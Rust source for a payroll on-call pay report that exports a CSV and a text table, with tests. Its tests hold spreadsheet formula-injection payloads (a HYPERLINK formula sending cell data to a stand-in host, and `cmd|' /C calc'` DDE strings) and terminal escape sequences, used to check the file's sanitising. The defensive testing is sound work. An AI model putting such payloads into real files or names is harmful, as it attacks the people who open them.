//! `baton pay-report`: a month of on-call pay for payroll, from the database.
//!
//! CSV: one row per engineer per channel, amounts as plain decimals, days to two decimals, with
//! exactly the header below. An engineer's rows add up to what they are paid (the table's and
//! `/oncall-pay`'s total): the pay module splits that total over their channels, each row within a
//! penny of the channel's exact pay (see [`crate::domain::pay`]).
//!
//! People and channels are shown by the names last stored for them (a person's from Slack's
//! directory, a channel's from the slash commands that recorded its handovers), or by their ids
//! where none is stored.

use crate::commands::oncall_pay::{period_label, rates_note, team_total};
use crate::domain::ids::{ChannelId, UserId};
use crate::domain::month::{Progress, YearMonth};
use crate::domain::pay::{DayKind, PayPolicy, Statement};
use crate::domain::text;
use chrono::{DateTime, Utc};
use std::borrow::Cow;
use std::collections::HashMap;

pub const CSV_HEADER: [&str; 9] = [
    "user_id",
    "user_name",
    "channel_id",
    "weekday_days",
    "weekend_days",
    "bank_holiday_days",
    "amount",
    "currency",
    // Last, though it belongs beside channel_id: it came after the others, and an import that
    // reads columns by position must still find the amount where it was.
    "channel_name",
];

/// The output format.
#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
pub enum Format {
    Csv,
    Table,
}

/// The names a report shows, as last stored.
#[derive(Debug, Default)]
pub struct Names {
    pub people: HashMap<UserId, String>,
    pub channels: HashMap<ChannelId, String>,
}

impl Names {
    /// A person's stored name (else their id), printable: names stored before Baton made them
    /// so at lookup (see [`text::printable_name`]) may still hold a terminal's escape sequences.
    fn person<'a>(&'a self, user: &'a UserId) -> Cow<'a, str> {
        text::printable_name(self.people.get(user).map_or(user.as_str(), String::as_str))
    }

    /// A channel's stored name, without `#` (else its id), printable.
    pub(crate) fn channel<'a>(&'a self, channel: &'a ChannelId) -> Cow<'a, str> {
        text::printable_name(
            self.channels
                .get(channel)
                .map_or(channel.as_str(), String::as_str),
        )
    }

    /// A channel as the table shows it in a row (`#name`, else its id), or with `and_id` in a
    /// heading (`#name (C0123ABCD)`, else `channel C0123ABCD`): the name says which team, the
    /// id is what `--channel` takes.
    fn channel_label(&self, channel: &ChannelId, and_id: bool) -> String {
        match (self.channels.contains_key(channel), and_id) {
            (true, false) => format!("#{}", self.channel(channel)),
            (true, true) => format!("#{} ({channel})", self.channel(channel)),
            (false, false) => channel.to_string(),
            (false, true) => format!("channel {channel}"),
        }
    }
}

/// The channel `--channel` means, as typed (without `#`): a channel known by that id (one with
/// handovers, or a stored name), else the one channel whose stored name it is (`data-platform`;
/// Slack's names are lower case, so case is ignored), else the id as typed, which then matches
/// nobody and says so. A name that several channels have had (one renamed, another given its old
/// name) is refused with their ids, and so is text that is neither a name nor an id.
///
/// An id matches as typed first. Failing that and a name, an id typed in another case (`OPS` for
/// the console's `ops`, whose names are folded to lower case everywhere else) is the one known
/// id it matches whatever the case, if there is just one.
pub fn find_channel<'a>(
    typed: &str,
    with_handovers: impl IntoIterator<Item = &'a ChannelId>,
    names: &Names,
) -> Result<ChannelId, String> {
    let mut ids: Vec<&ChannelId> = names.channels.keys().collect();
    for id in with_handovers {
        ids.push(id);
    }
    if let Some(id) = ids.iter().find(|c| c.as_str() == typed) {
        return Ok((*id).clone());
    }
    let mut named: Vec<&ChannelId> = names
        .channels
        .iter()
        .filter(|(_, name)| name.to_lowercase() == typed.to_lowercase())
        .map(|(id, _)| id)
        .collect();
    named.sort();
    ids.retain(|c| c.as_str().eq_ignore_ascii_case(typed));
    ids.sort();
    ids.dedup();
    match (named.as_slice(), ids.as_slice()) {
        ([], [one]) => Ok((*one).clone()),
        ([], _) => ChannelId::parse(typed).map_err(|_| {
            format!(
                "--channel {typed}: no channel has this name, and it is not a channel id (a \
                 Slack channel id is capitals and digits, e.g. C0123ABCD)"
            )
        }),
        ([one], _) => Ok((*one).clone()),
        (several, _) => Err(format!(
            "#{typed} is the name of {} channels ({}): give --channel the id of the one you mean",
            several.len(),
            several
                .iter()
                .map(|c| c.as_str())
                .collect::<Vec<_>>()
                .join(", ")
        )),
    }
}

/// Where a spreadsheet may start a new cell inside a field, whatever this file's delimiter: Excel
/// splits a `.csv` on the locale's list separator, which is `;` wherever the comma is the decimal
/// mark (much of Europe), and some importers also split on tab; a line end starts a new row.
const CELL_BREAKS: [char; 5] = [',', ';', '\t', '\r', '\n'];

/// What makes a cell a formula (or, for tab and carriage return, hides one) when it comes first.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Text made safe for a spreadsheet: a formula character (`=`, `+`, `-`, `@`, tab, carriage
/// return) that could begin a cell gets a `'` in front, as OWASP advises for CSV exports. Names
/// are what people set in Slack, and `=HYPERLINK(…)` as a name must not run when payroll opens
/// the file.
///
/// "Could begin a cell" is the start of the field *and* the place after every `,`, `;`, tab or
/// line end in it (spaces and quotes skipped, as an importer may trim them): a spreadsheet that
/// splits on `;` reads `Mallory;=1+cmd|…` as two cells, the second a formula. Quoting such a
/// field would not help, because in that locale the quote is not at the start of a cell
/// (`UALICE,"Mallory;=…` splits at the `;` all the same); a `'` before the formula character
/// works however the line is split, and leaves the name readable.
fn spreadsheet_text(cell: &str) -> Cow<'_, str> {
    let mut safe = String::with_capacity(cell.len() + 1);
    let mut may_begin = true;
    for c in cell.chars() {
        if may_begin && FORMULA_STARTS.contains(&c) {
            safe.push('\'');
        }
        safe.push(c);
        may_begin = CELL_BREAKS.contains(&c) || (may_begin && matches!(c, ' ' | '"'));
    }
    match safe.len() == cell.len() {
        true => cell.into(),
        false => safe.into(),
    }
}

/// The payroll CSV.
pub fn csv(
    statements: &[Statement],
    policy: &PayPolicy,
    names: &Names,
) -> Result<String, csv::Error> {
    let mut out = csv::Writer::from_writer(Vec::new());
    out.write_record(CSV_HEADER)?;
    for s in statements {
        for c in &s.channels {
            let b = &c.breakdown;
            // Ids too: a console's (`-x`, say) may start with a formula character.
            out.write_record([
                &*spreadsheet_text(s.user.as_str()),
                &spreadsheet_text(&names.person(&s.user)),
                &spreadsheet_text(c.channel.as_str()),
                &b.shown_days(DayKind::Weekday).to_string(),
                &b.shown_days(DayKind::Weekend).to_string(),
                &b.shown_days(DayKind::BankHoliday).to_string(),
                &c.total.as_ref().map(|m| m.plain()).unwrap_or_default(),
                policy.currency.code(),
                &spreadsheet_text(&names.channel(&c.channel)),
            ])?;
        }
    }
    let bytes = out.into_inner().map_err(|e| e.into_error())?;
    Ok(String::from_utf8_lossy(&bytes).into_owned())
}

/// A table for people, with each engineer's total and the team's.
/// `now` is the instant pay is accrued to: the real now, or with `cut_off` a payroll cut-off
/// (`--until`), which the heading then names as one.
pub fn table(
    statements: &[Statement],
    policy: &PayPolicy,
    names: &Names,
    month: YearMonth,
    now: DateTime<Utc>,
    cut_off: bool,
    channel: Option<&ChannelId>,
) -> String {
    let mut rows: Vec<[String; 6]> = vec![[
        "Engineer".into(),
        "Channel".into(),
        "Weekday".into(),
        "Weekend".into(),
        "Bank hol.".into(),
        "Amount".into(),
    ]];
    let money = |m: &Option<crate::domain::money::Money>| {
        m.as_ref()
            .map_or_else(|| "-".to_owned(), ToString::to_string)
    };
    for s in statements {
        let who = match names.person(&s.user) {
            n if n == s.user.as_str() => n.into_owned(),
            n => format!("{n} ({})", s.user),
        };
        for c in &s.channels {
            rows.push([
                who.clone(),
                names.channel_label(&c.channel, false),
                c.breakdown.shown_days(DayKind::Weekday).to_string(),
                c.breakdown.shown_days(DayKind::Weekend).to_string(),
                c.breakdown.shown_days(DayKind::BankHoliday).to_string(),
                money(&c.total),
            ]);
        }
        if s.channels.len() > 1 {
            rows.push([
                who.clone(),
                "all channels".into(),
                s.overall.shown_days(DayKind::Weekday).to_string(),
                s.overall.shown_days(DayKind::Weekend).to_string(),
                s.overall.shown_days(DayKind::BankHoliday).to_string(),
                money(&s.total),
            ]);
        }
    }
    let widths: Vec<usize> = (0..6)
        .map(|i| rows.iter().map(|r| r[i].chars().count()).max().unwrap_or(0))
        .collect();
    let channel_shown = |c: &ChannelId| names.channel_label(c, true);
    let scope = channel.map_or_else(String::new, |c| format!(" in {}", channel_shown(c)));
    let period = match month.progress(policy.timezone, now) {
        Progress::ToDate if cut_off => format!(
            "{} (until {})",
            month.long_name(),
            crate::domain::when::short(now, policy.timezone, now)
        ),
        _ => period_label(month, policy, now),
    };
    let mut out = format!("On-call pay{scope} for {period}\n\n");
    for (n, r) in rows.iter().enumerate() {
        let line: Vec<String> = r
            .iter()
            .enumerate()
            .map(|(i, cell)| {
                if i < 2 {
                    format!("{cell:<w$}", w = widths[i])
                } else {
                    format!("{cell:>w$}", w = widths[i])
                }
            })
            .collect();
        out.push_str(line.join("  ").trim_end());
        out.push('\n');
        if n == 0 {
            out.push_str(&"-".repeat(widths.iter().sum::<usize>() + 10));
            out.push('\n');
        }
    }
    // A month not started has nobody on call yet, which is said instead; before a cut-off,
    // nobody may be the answer for that part of the month only.
    let progress = month.progress(policy.timezone, now);
    // Worded as `/oncall-pay team` words it.
    let (was, when) = match progress {
        Progress::ToDate if cut_off => ("was", "in this month before the cut-off"),
        Progress::ToDate => ("has been", "in this month so far"),
        _ => ("was", "in this month"),
    };
    if progress == Progress::NotStarted {
        out.push_str(crate::commands::oncall_pay::NOT_STARTED);
        out.push('\n');
    } else if statements.is_empty() {
        out.push_str(&match channel {
            Some(c) => format!(
                "Nobody {was} on call in {} {when}: check the channel (a Slack channel \
                 id is capitals and digits, e.g. C0123ABCD; a name is as `#ops-data`).\n",
                channel_shown(c)
            ),
            None => format!("Nobody {was} on call {when}.\n"),
        });
    }
    match team_total(policy, statements) {
        Some(total) => out.push_str(&format!(
            "\n{}: {total}\n{}\n",
            channel.map_or_else(
                || "Team total".to_owned(),
                |c| format!("Total for {}", channel_shown(c))
            ),
            rates_note(policy, month)
        )),
        None => out.push_str("\nPay rates are not configured: days only.\n"),
    }
    if let Some(warning) = uncovered_warning(statements) {
        out.push_str(&format!("Warning: {warning}\n"));
    }
    out
}

/// What the table, and stderr beside a CSV, say of dates the bank-holiday calendar does not
/// cover, and what to do about it.
pub fn uncovered_warning(statements: &[Statement]) -> Option<String> {
    let (first, last) = crate::domain::pay::uncovered_span(statements)?;
    Some(format!(
        "the bank-holiday calendar does not cover {first} to {last}; those days were paid as \
         weekday/weekend days. Point `holidays` under [pay] at a bank-holidays.json (GOV.UK's \
         format) that covers them and run the report again"
    ))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::domain::ids::ChannelId;
    use crate::domain::money::{Currency, Money};
    use crate::domain::pay::{self, ChannelRota, HandoverPoint, Rates};

    #[test]
    fn an_engineers_csv_rows_add_up_to_what_they_are_paid() {
        // £10.00 a day; Alice covers 08:00-16:00 of Monday 2 June in three channels: a third of
        // a day each, £3.33⅓. She is paid £10.00, and her rows must say so between them.
        let gbp = Currency::gbp();
        let ten = Money::parse("10.00", &gbp).unwrap();
        let policy = PayPolicy {
            rates: Some(Rates {
                weekday: ten,
                weekend: ten,
                bank_holiday: ten,
            }),
            ..PayPolicy::unconfigured(chrono_tz::Europe::London)
        };
        let at = |s: &str| DateTime::parse_from_rfc3339(s).unwrap().with_timezone(&Utc);
        let point = |t: &str, who: &str| HandoverPoint {
            at: at(t),
            to: Some(UserId::parse(who).unwrap()),
        };
        let rotas: Vec<ChannelRota> = ["C1", "C2", "C3"]
            .iter()
            .map(|c| ChannelRota {
                channel: ChannelId::parse(c).unwrap(),
                handovers: vec![
                    point("2025-06-02T08:00:00+01:00", "UALICE"),
                    point("2025-06-02T16:00:00+01:00", "UBOB"),
                ],
            })
            .collect();
        let month: YearMonth = "2025-06".parse().unwrap();
        let statements = pay::team(&policy, &rotas, month, at("2025-06-02T16:00:00+01:00"));
        let out = csv(&statements, &policy, &Names::default()).unwrap();
        let alice: Vec<&str> = out
            .lines()
            .filter(|l| l.starts_with("UALICE,"))
            .map(|l| l.split(',').nth(6).unwrap())
            .collect();
        assert_eq!(alice, ["3.34", "3.33", "3.33"], "{out}");
        assert!(table(
            &statements,
            &policy,
            &Names::default(),
            month,
            at("2025-07-01T00:00:00Z"),
            false,
            None
        )
        .contains("£10.00"));
    }

    /// UALICE on call in C1 from 08:00 on Monday 2 June 2025 for a day, with no pay rates.
    fn alice_on_call_for_a_day() -> (PayPolicy, Statement) {
        let policy = PayPolicy::unconfigured(chrono_tz::Europe::London);
        let user = UserId::parse("UALICE").unwrap();
        let statement = pay::statement(
            &policy,
            &[ChannelRota {
                channel: ChannelId::parse("C1").unwrap(),
                handovers: vec![HandoverPoint {
                    at: "2025-06-02T08:00:00Z".parse().unwrap(),
                    to: Some(user.clone()),
                }],
            }],
            &user,
            "2025-06".parse().unwrap(),
            "2025-06-03T08:00:00Z".parse().unwrap(),
        );
        (policy, statement)
    }

    #[test]
    fn a_name_a_spreadsheet_would_run_as_a_formula_is_exported_as_text() {
        // (name in Slack, cell in the CSV)
        let cases = [
            (
                "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")",
                "'=HYPERLINK(\"http://x.example/?\"&A1,\"click\")",
            ),
            ("+44 7700 900000", "'+44 7700 900000"),
            ("-Alice", "'-Alice"),
            ("@alice", "'@alice"),
            ("\tAlice", "'\tAlice"),
            (" =1+1", " '=1+1"),
            ("\"=1+1\"", "\"'=1+1\""),
            // Where `;` is the list separator, the part after it is a cell of its own.
            (
                "Mallory;=1+cmd|' /C calc'!A0",
                "Mallory;'=1+cmd|' /C calc'!A0",
            ),
            ("Smith, =1+1", "Smith, '=1+1"),
            ("Smith;\t@SUM(A1)", "Smith;'\t'@SUM(A1)"),
            ("Alice = Bob", "Alice = Bob"),
            ("Jean-Luc Picard", "Jean-Luc Picard"),
            ("Smith; Anna", "Smith; Anna"),
            ("Zoë", "Zoë"),
        ];
        for (name, want) in cases {
            assert_eq!(spreadsheet_text(name), want, "{name:?}");
        }
        let (policy, statement) = alice_on_call_for_a_day();
        let console_ids = Statement {
            user: UserId::parse("-bob").unwrap(),
            ..statement.clone()
        };
        for (statement, name, row) in [
            (&statement, "=cmd|' /C calc'!A0", "UALICE,'=cmd|"),
            (
                &statement,
                "Mallory;=cmd|' /C calc'!A0",
                "UALICE,Mallory;'=cmd|",
            ),
            (&console_ids, "Bob", "'-bob,Bob,"),
        ] {
            let names = Names {
                people: HashMap::from([(statement.user.clone(), name.to_owned())]),
                ..Names::default()
            };
            let out = csv(std::slice::from_ref(statement), &policy, &names).unwrap();
            assert!(out.contains(row), "{out}");
            // However a spreadsheet splits the line, no cell starts a formula.
            for cell in out.lines().flat_map(|l| l.split([',', ';', '\t'])) {
                let start = cell.trim_start_matches([' ', '"']);
                assert!(!start.starts_with(FORMULA_STARTS), "{cell:?} in {out}");
            }
        }
    }

    #[test]
    fn a_stored_name_is_printed_without_its_terminal_escape_sequences() {
        // Stored before names were made printable at lookup: the report must not replay it.
        let (policy, statement) = alice_on_call_for_a_day();
        let names = Names {
            people: HashMap::from([(
                statement.user.clone(),
                "\u{1b}[2J\u{1b}[31mMallory\u{1b}[0m\nUEVE".to_owned(),
            )]),
            ..Names::default()
        };
        let statements = [statement];
        let month = "2025-06".parse().unwrap();
        let at = "2025-06-03T08:00:00Z".parse().unwrap();
        let shown = table(&statements, &policy, &names, month, at, false, None);
        let exported = csv(&statements, &policy, &names).unwrap();
        for out in [shown, exported] {
            assert!(!out.contains('\u{1b}'), "{out:?}");
            assert!(
                out.contains("\u{FFFD}[2J\u{FFFD}[31mMallory\u{FFFD}[0m\u{FFFD}UEVE"),
                "{out:?}"
            );
        }
    }

    #[test]
    fn channels_are_shown_by_the_name_slack_gave_them_and_by_id_without_one() {
        let (policy, statement) = alice_on_call_for_a_day();
        let c1 = ChannelId::parse("C1").unwrap();
        let named = Names {
            channels: HashMap::from([(c1.clone(), "data-platform".to_owned())]),
            ..Names::default()
        };
        let statements = [statement];
        let month = "2025-06".parse().unwrap();
        let at = "2025-06-03T08:00:00Z".parse().unwrap();
        let exported = csv(&statements, &policy, &named).unwrap();
        assert!(exported.starts_with(
            "user_id,user_name,channel_id,weekday_days,weekend_days,bank_holiday_days,amount,\
             currency,channel_name\n"
        ));
        assert!(
            exported.contains("\nUALICE,UALICE,C1,1.00,0.00,0.00,,GBP,data-platform\n"),
            "{exported}"
        );
        let shown = table(&statements, &policy, &named, month, at, false, Some(&c1));
        assert!(
            shown.starts_with("On-call pay in #data-platform (C1) for "),
            "{shown}"
        );
        assert!(shown.contains("UALICE    #data-platform"), "{shown}");

        let unnamed = Names::default();
        let exported = csv(&statements, &policy, &unnamed).unwrap();
        assert!(
            exported.contains("\nUALICE,UALICE,C1,1.00,0.00,0.00,,GBP,C1\n"),
            "{exported}"
        );
        let shown = table(&statements, &policy, &unnamed, month, at, false, Some(&c1));
        assert!(
            shown.starts_with("On-call pay in channel C1 for "),
            "{shown}"
        );
    }

    #[test]
    fn a_channel_name_is_exported_and_shown_as_text_like_a_persons() {
        // Slack refuses such channel names today; the file must not depend on it.
        let (policy, statement) = alice_on_call_for_a_day();
        let c1 = ChannelId::parse("C1").unwrap();
        let statements = [statement];
        let month = "2025-06".parse().unwrap();
        let at = "2025-06-03T08:00:00Z".parse().unwrap();
        for (name, cell) in [
            ("=cmd|' /C calc'!A0", ",'=cmd|' /C calc'!A0\n"),
            ("\u{1b}[2Jops\u{202E}", ",\u{FFFD}[2Jops\u{FFFD}\n"),
        ] {
            let names = Names {
                channels: HashMap::from([(c1.clone(), name.to_owned())]),
                ..Names::default()
            };
            let exported = csv(&statements, &policy, &names).unwrap();
            assert!(exported.ends_with(cell), "{exported:?}");
            let shown = table(&statements, &policy, &names, month, at, false, Some(&c1));
            assert!(!shown.contains(['\u{1b}', '\u{202E}']), "{shown:?}");
        }
    }

    #[test]
    fn an_empty_table_says_nobody_was_on_call_only_where_that_could_be_a_mistake() {
        let policy = PayPolicy::unconfigured(chrono_tz::Europe::London);
        let month: YearMonth = "2025-03".parse().unwrap();
        let at = |s: &str| s.parse::<DateTime<Utc>>().unwrap();
        let c1 = ChannelId::parse("C1").unwrap();
        // (now, a cut-off, channel, what the table says of nobody, if anything)
        let cases = [
            ("2025-02-20T12:00:00Z", false, None, None),
            ("2025-02-20T12:00:00Z", false, Some(&c1), None),
            (
                "2025-03-02T09:00:00Z",
                true,
                None,
                Some("Nobody was on call in this month before the cut-off.\n"),
            ),
            (
                "2025-03-02T09:00:00Z",
                true,
                Some(&c1),
                Some("Nobody was on call in channel C1 in this month before the cut-off: check"),
            ),
            (
                "2025-03-02T09:00:00Z",
                false,
                None,
                Some("Nobody has been on call in this month so far.\n"),
            ),
            (
                "2025-04-02T09:00:00Z",
                false,
                None,
                Some("Nobody was on call in this month.\n"),
            ),
        ];
        for (now, cut_off, channel, said) in cases {
            let shown = table(
                &[],
                &policy,
                &Names::default(),
                month,
                at(now),
                cut_off,
                channel,
            );
            match said {
                Some(said) => assert!(shown.contains(said), "{now} {cut_off}: {shown}"),
                None => assert!(!shown.contains("Nobody"), "{now} {channel:?}: {shown}"),
            }
        }
    }

    #[test]
    fn channel_picks_a_channel_by_its_id_or_its_one_stored_name() {
        let id = |c: &str| ChannelId::parse(c).unwrap();
        let names = Names {
            channels: HashMap::from([
                (id("C1"), "data-platform".to_owned()),
                (id("C2"), "payments".to_owned()),
                (id("C3"), "payments".to_owned()),
                // A channel named like another's id: the id wins, whether or not that other
                // channel had handovers this month.
                (id("C4"), "C1".to_owned()),
                (id("C5"), "c6".to_owned()),
                (id("C6"), "équipe-données".to_owned()),
            ]),
            ..Names::default()
        };
        let with_handovers = [
            id("C1"),
            id("C2"),
            id("C3"),
            id("C4"),
            // The console's channels: ids in lower case, with no stored name.
            id("ops"),
            id("web"),
            id("Web"),
        ];
        // (typed, the channel meant, or the error's start)
        let cases: [(&str, Result<&str, &str>); 14] = [
            ("C1", Ok("C1")),
            ("C6", Ok("C6")),
            ("data-platform", Ok("C1")),
            ("Data-Platform", Ok("C1")),
            ("équipe-données", Ok("C6")),
            ("C9", Ok("C9")),
            ("support", Ok("support")),
            // An id in another case: the one id it could be.
            ("OPS", Ok("ops")),
            ("Ops", Ok("ops")),
            ("ops", Ok("ops")),
            // Two ids it could be: neither is guessed, and exact ids still match.
            ("WEB", Ok("WEB")),
            ("Web", Ok("Web")),
            (
                "payments",
                Err("#payments is the name of 2 channels (C2, C3): give --channel the id"),
            ),
            (
                "no such",
                Err("--channel no such: no channel has this name"),
            ),
        ];
        for (typed, want) in cases {
            let found = find_channel(typed, &with_handovers, &names);
            match (found, want) {
                (Ok(found), Ok(want)) => assert_eq!(found.as_str(), want, "{typed}"),
                (Err(e), Err(want)) => assert!(e.starts_with(want), "{typed}: {e}"),
                (found, want) => panic!("{typed}: {found:?}, wanted {want:?}"),
            }
        }
    }
}
